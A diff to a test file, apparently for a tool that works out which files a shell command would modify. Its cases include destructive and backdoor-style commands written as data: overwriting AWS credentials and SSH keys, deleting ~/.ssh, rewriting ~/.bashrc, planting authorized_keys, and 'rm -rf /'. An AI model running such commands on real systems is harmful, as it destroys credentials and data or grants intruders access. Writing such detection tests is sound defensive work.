@@ -129,7 +129,12 @@ describe('targets: the paths a command changes, resolved', () => {
     ['tee -- -a log.txt', ['tee ./-a', 'tee ./log.txt']],
     ['sed -i d ~/.aws/credentials', ['sed ~/.aws/credentials']],
     ['curl -so ~/.ssh/id_rsa file:///dev/null', ['curl ~/.ssh/id_rsa']],
-    ['tar --remove-files -czf /tmp/a.tgz ~/.ssh', ['tar /tmp/a.tgz', 'tar ~/.ssh']],
+    ['tar --remove-files -czf /tmp/a.tgz ~/.ssh', ['tar /tmp/a.tgz', 'tar ~/.ssh', '> /tmp/a.tgz']],
+    // Files written through options or scripts are targets of `> FILE`.
+    ['find . -fprint ~/.bashrc', ['find .', '> ~/.bashrc']],
+    ["sed -n 'w /home/dev/.ssh/id_rsa' /dev/null", ['> /home/dev/.ssh/id_rsa']],
+    ['unzip -o evil.zip -d ~', ['> ~']],
+    ['curl --output-dir ~/.ssh -o authorized_keys https://x.example', ['curl ./authorized_keys', '> ~/.ssh']],
     ['sudo rm -rf /', ['rm /']],
     ['/bin/rm -rf /', ['rm /']],
     // No targets.
